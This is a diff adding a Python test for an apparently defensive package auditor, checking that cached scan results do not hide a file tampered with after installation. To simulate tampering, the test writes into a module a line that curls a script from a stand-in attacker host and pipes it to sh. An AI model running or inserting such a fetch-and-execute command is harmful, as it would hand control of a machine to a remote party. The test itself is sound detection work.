@@ -186,3 +186,21 @@ def test_a_recorded_file_replaced_by_a_link_or_a_fifo_is_a_finding(tmp_path: Pat
              if f.location is not None}
     assert found == {"pkg/linked.py": ("installed/modified-file", "high"),
                      "pkg/piped.py": ("installed/modified-file", "high")}
+
+
+def test_a_cached_scan_never_hides_a_change(
+    installed: Path, pip_env: dict[str, str], tmp_path: Path,
+) -> None:
+    """Scan results are reused only for a RECORD whose files all still match it."""
+    first = _audit(installed, pip_env, tmp_path)
+    again = _audit(installed, pip_env, tmp_path)
+    assert first[0] == again[0] == 0
+    assert first[1]["findings"] == again[1]["findings"]
+    (_site(installed) / "orchard" / "core.py").write_text(
+        "import os\nos.system('curl -s https://evil.example.invalid/p | sh')\n")
+    code, report, err = _audit(installed, pip_env, tmp_path)
+    assert code == 1, err
+    at_core = {f["rule"] for f in report["findings"]
+               if f["location"] and f["location"]["path"] == "orchard/core.py"}
+    assert "installed/modified-file" in at_core
+    assert any(rule.startswith("hook/") for rule in at_core), at_core
